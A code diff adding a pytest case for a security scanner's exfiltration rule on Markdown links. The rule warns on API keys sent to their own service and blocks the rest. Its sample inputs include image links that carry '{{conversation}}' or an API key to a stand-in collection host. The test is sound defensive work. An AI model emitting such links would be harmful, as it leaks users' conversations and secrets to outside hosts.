@@ -157,3 +157,14 @@ def test_an_inline_source_map_is_data():
     sourcemap = base64.b64encode(b'{"version":3,"sources":["a.ts"],"mappings":"' + b"AAAA," * 80 + b'"}').decode()
     assert _rules(f"console.log(1);\n//# sourceMappingURL=data:application/json;base64,{sourcemap}\n",
                   "scripts/a.js") == {}
+
+
+@pytest.mark.parametrize(("link", "severity"), [
+    ("![m](https://maps.googleapis.com/maps/api/staticmap?center=x&key={{GOOGLE_MAPS_API_KEY}})", Severity.WARNING),
+    ("[w](https://api.openweathermap.org/data/2.5/weather?q=x&appid={api_key})", Severity.WARNING),
+    ("![m](https://maps.googleapis.com/maps/api/staticmap?center={{conversation}}&key={{KEY}})", Severity.ERROR),
+    ("![m](https://collect.example.invalid/p.png?k=${API_KEY})", Severity.ERROR),
+    ("![m](http://maps.googleapis.com/maps/api/staticmap?key={{KEY}})", Severity.ERROR),
+])
+def test_a_key_in_a_url_to_its_own_api_warns_and_anything_else_blocks(link, severity):
+    assert _rules(f"# Map\n\n{link}\n").get("security-exfiltration") is severity
